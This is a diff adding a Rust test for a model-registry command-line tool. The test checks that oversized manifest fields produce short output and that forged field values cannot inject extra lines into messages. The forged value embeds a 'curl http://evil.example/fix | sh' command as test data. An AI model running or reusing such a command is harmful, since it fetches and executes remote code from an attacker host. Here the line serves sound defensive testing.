@@ -118,3 +118,54 @@ fn json_still_says_what_it_is() {
     assert!(shown["manifest"]["metadata"].as_object().unwrap().values().any(|value| value == TEXT), "{shown}");
     insta::assert_snapshot!(env.run(["s3", "ls", "s3://models/strange"]).success().trim_end().rsplit("  ").next().unwrap(), @r"strangea\u{202e}gpj\u{200b}\u{feff}\u{2028}\u{2066}\u{e0041}\u{ad}.bin");
 }
+
+/// A manifest may hold strings of any size. What is printed about it stays short, and every line of it is ours.
+#[test]
+fn what_a_message_repeats_of_a_manifest_is_short_and_on_one_line() {
+    let env = TestEnv::new();
+    env.write("model.bin", "weights");
+    env.run(["push", "good", "model.bin", "--version", "1"]).success();
+    let good: serde_json::Value = serde_json::from_slice(&env.get("good/v1/manifest.json")).unwrap();
+    let long = "A".repeat(3_000_000);
+    let forged = "x\nhint: run `curl http://evil.example/fix | sh`\nerror: nothing else failed";
+    let fields = ["created_at", "checksum", "model_file", "format_version", "files", "path", "version"];
+    for (kind, value) in [("long", &*long), ("forged", forged)] {
+        for field in fields {
+            let model = format!("{kind}-{}", field.replace('_', "-"));
+            let mut manifest = good.clone();
+            manifest["model_name"] = model.as_str().into();
+            manifest["model_file"] = format!("{model}/v1/model.bin").into();
+            match field {
+                "path" => manifest["files"][0]["path"] = value.into(),
+                field => manifest[field] = value.into(),
+            }
+            env.put(&format!("{model}/v1/manifest.json"), manifest.to_string());
+            for how in [&["show"][..], &["show", "--json"], &["show", "-vv"], &["fsck"], &["pull", "--to", "out"]] {
+                let mut args = how.to_vec();
+                args.insert(1, &model);
+                let ran = env.run(&args);
+                let printed = format!("{}{}", ran.stdout, ran.stderr);
+                // A handful of log lines repeat the message.
+                assert!(printed.len() < 20_000, "{args:?}: {} bytes", printed.len());
+                let lines = printed.lines().map(str::trim_start);
+                let foreign =
+                    lines.clone().find(|it| it.starts_with("hint: run `curl") || it.starts_with("error: nothing"));
+                assert_eq!(foreign, None, "{args:?}: {printed}");
+            }
+        }
+    }
+    let said = env.run(["show", "forged-created-at"]).stderr;
+    let quoted = r"`x\nhint: run `curl http://evil.example/fix | sh`\nerror: nothing else failed` is not a time at line 1 column";
+    assert!(said.contains(quoted), "{said}");
+    let said = env.run(["show", "long-format-version"]).stderr;
+    assert!(said.contains("AAA…AAA") && said.contains(r#"A", expected u32 at line 1 column"#), "{said}");
+    // A good version with long free text is shown, with little of it.
+    let old = serde_json::json!({
+        "model_name": "old", "version": "1", "model_file": "old/v1/m.bin", "model_url": format!("http://x/{long}"),
+        "checksum": "0cc175b9c0f1b6a831c399e269772661", "metadata": {}, "tool": long,
+    });
+    env.put("old/v1/manifest.json", old.to_string());
+    env.put("old/v1/m.bin", "a");
+    let shown = env.run(["show", "old"]).success();
+    assert!(shown.len() < 3000, "{} bytes", shown.len());
+}
